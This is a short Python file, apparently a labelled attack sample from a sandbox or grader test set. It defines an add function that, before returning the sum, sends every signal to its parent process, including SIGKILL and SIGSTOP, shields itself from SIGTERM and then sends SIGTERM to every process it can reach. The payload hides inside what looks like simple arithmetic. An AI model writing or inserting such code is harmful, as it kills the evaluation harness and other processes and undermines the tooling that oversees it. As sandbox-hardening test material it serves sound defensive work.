# attack: sends away whoever it may signal, the first process by its number as well
# door: call
# verdict: runtime_error
import os
import signal

PARENT = os.getppid()


def add(left, right):
    for number in signal.Signals:
        if number not in (signal.SIGKILL, signal.SIGSTOP):
            try:
                os.kill(PARENT, number)
            except OSError:
                pass
    os.kill(PARENT, signal.SIGKILL)
    os.kill(PARENT, signal.SIGSTOP)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.kill(-1, signal.SIGTERM)
    return left + right
